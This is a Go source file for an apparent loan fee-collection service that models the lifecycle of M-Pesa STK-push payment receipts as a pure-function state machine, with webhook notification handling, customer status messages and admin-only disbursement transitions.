/**
 * @description
 * This file contains the receipt lifecycle state machine. Everything here is a
 * pure function of (current record, event): no I/O, no clock reads. That is
 * what makes the webhook reconciler idempotent under redelivery — applying the
 * same notification to the same record always yields the same result.
 *
 * State machine:
 *   initiation  -> pending | stk_failed | error
 *   notification-> processing (success predicate) | cancelled
 *   admin       -> success | loan_released
 *
 * The chosen replay policy is last-writer-wins: a failure notification after a
 * success notification moves the record to cancelled. See DESIGN.md.
 */

package app

import (
	"errors"
	"fmt"
	"time"

	"github.com/swiftloan/collection-service/internal/domain"
)

const (
	defaultCustomerName = "N/A"
	fallbackLoanAmount  = "50000"

	stkFailedNote = "STK push failed to send. Please try again or contact support."
	errorNote     = "System error occurred. Please try again later."
	genericCancelNote = "Payment failed or was cancelled."
)

// M-Pesa result codes with friendlier messages than the aggregator's own text.
var cancelNotes = map[int]string{
	1032: "You cancelled the payment request on your phone. Please try again to complete your loan withdrawal.",
	1037: "The request timed out. You did not enter your M-Pesa PIN to complete the withdrawal request. Please try again.",
	2001: "Payment failed due to insufficient M-Pesa balance. Please top up and try to withdraw again.",
}

// ErrIllegalTransition is returned when an administrative status change is not
// an explicit edge of the state machine.
var ErrIllegalTransition = errors.New("illegal receipt status transition")

func pendingNote(phone string) string {
	return fmt.Sprintf("STK push sent to %s. Please enter your M-Pesa PIN to complete the fee payment and loan disbursement.", phone)
}

func processingNote(reference string) string {
	return fmt.Sprintf("Your fee payment has been received and verified. Loan Reference: %s. Your loan is now in the final processing stage and funds are reserved for disbursement. You will receive the amount in your selected account within 24 hours; an SMS will be sent to you. Thank you for choosing SwiftLoan Kenya.", reference)
}

// NewPendingReceipt builds the initial record after the aggregator accepted
// the STK push.
func NewPendingReceipt(reference, phone, loanAmount string, amount int64, transactionID string, now time.Time) domain.Receipt {
	receipt := newInitialReceipt(reference, phone, loanAmount, amount, now)
	receipt.Status = domain.StatusPending
	receipt.StatusNote = pendingNote(phone)
	if transactionID != "" {
		receipt.TransactionID = &transactionID
	}
	return receipt
}

// NewSTKFailedReceipt builds the initial record after the aggregator rejected
// the STK push.
func NewSTKFailedReceipt(reference, phone, loanAmount string, amount int64, transactionID string, now time.Time) domain.Receipt {
	receipt := newInitialReceipt(reference, phone, loanAmount, amount, now)
	receipt.Status = domain.StatusSTKFailed
	receipt.StatusNote = stkFailedNote
	if transactionID != "" {
		receipt.TransactionID = &transactionID
	}
	return receipt
}

// NewErrorReceipt builds the initial record when the initiation call itself
// failed. Fields are best-effort: the caller passes whatever it had validated
// before the failure.
func NewErrorReceipt(reference, phone, loanAmount string, amount int64, now time.Time) domain.Receipt {
	receipt := newInitialReceipt(reference, phone, loanAmount, amount, now)
	receipt.Status = domain.StatusError
	receipt.StatusNote = errorNote
	return receipt
}

func newInitialReceipt(reference, phone, loanAmount string, amount int64, now time.Time) domain.Receipt {
	if loanAmount == "" {
		loanAmount = fallbackLoanAmount
	}
	return domain.Receipt{
		Reference:    reference,
		FeeAmount:    amount,
		LoanAmount:   loanAmount,
		Phone:        phone,
		CustomerName: defaultCustomerName,
		Timestamp:    now,
	}
}

// ApplyNotification computes the next receipt record given the current one
// (nil when the reference was never initiated here; a shadow record is then
// created) and an incoming aggregator notification.
func ApplyNotification(existing *domain.Receipt, event domain.NotificationEvent, now time.Time) domain.Receipt {
	var next domain.Receipt
	if existing != nil {
		next = *existing
	}
	if event.Reference != "" {
		next.Reference = event.Reference
	}

	// transaction id is set-once-then-stable
	if next.TransactionID == nil && event.TransactionID != "" {
		id := event.TransactionID
		next.TransactionID = &id
	}

	// Notification values win when present; stored values are preserved otherwise.
	if event.Amount != nil {
		next.FeeAmount = *event.Amount
	}
	if event.Phone != "" {
		next.Phone = event.Phone
	}
	if event.CustomerName != "" {
		next.CustomerName = event.CustomerName
	} else if next.CustomerName == "" {
		next.CustomerName = defaultCustomerName
	}
	if next.LoanAmount == "" {
		next.LoanAmount = fallbackLoanAmount
	}

	if event.Timestamp != nil {
		next.Timestamp = *event.Timestamp
	} else {
		next.Timestamp = now
	}

	if notificationSucceeded(event) {
		next.Status = domain.StatusProcessing
		if event.ReceiptNumber != "" {
			code := event.ReceiptNumber
			next.TransactionCode = &code
		}
		next.StatusNote = processingNote(next.Reference)
		return next
	}

	next.Status = domain.StatusCancelled
	next.StatusNote = cancelNote(event)
	return next
}

// notificationSucceeded is the success predicate for a notification:
// either the envelope says completed+success, or the nested result code is 0.
// A missing result code is not success.
func notificationSucceeded(event domain.NotificationEvent) bool {
	if event.Status == "completed" && event.Success {
		return true
	}
	return event.ResultCode != nil && *event.ResultCode == 0
}

func cancelNote(event domain.NotificationEvent) string {
	if event.ResultCode != nil {
		if note, ok := cancelNotes[*event.ResultCode]; ok {
			return note
		}
	}
	if event.ResultDesc != "" {
		return event.ResultDesc
	}
	return genericCancelNote
}

// ApplyAdminStatus applies an explicit administrative transition. Promotion to
// success or loan_released never happens automatically; an operator confirms
// disbursement out of band and records it through this edge.
func ApplyAdminStatus(existing domain.Receipt, target string, now time.Time) (domain.Receipt, error) {
	switch target {
	case domain.StatusSuccess:
		if existing.Status != domain.StatusProcessing {
			return domain.Receipt{}, fmt.Errorf("%w: %s -> %s", ErrIllegalTransition, existing.Status, target)
		}
	case domain.StatusLoanReleased:
		if existing.Status != domain.StatusProcessing && existing.Status != domain.StatusSuccess {
			return domain.Receipt{}, fmt.Errorf("%w: %s -> %s", ErrIllegalTransition, existing.Status, target)
		}
	default:
		return domain.Receipt{}, fmt.Errorf("%w: unknown target status %q", ErrIllegalTransition, target)
	}

	next := existing
	next.Status = target
	next.Timestamp = now
	switch target {
	case domain.StatusSuccess:
		next.StatusNote = fmt.Sprintf("Payment confirmed for loan reference %s.", existing.Reference)
	case domain.StatusLoanReleased:
		next.StatusNote = fmt.Sprintf("Loan %s has been released to your account.", existing.Reference)
	}
	return next, nil
}
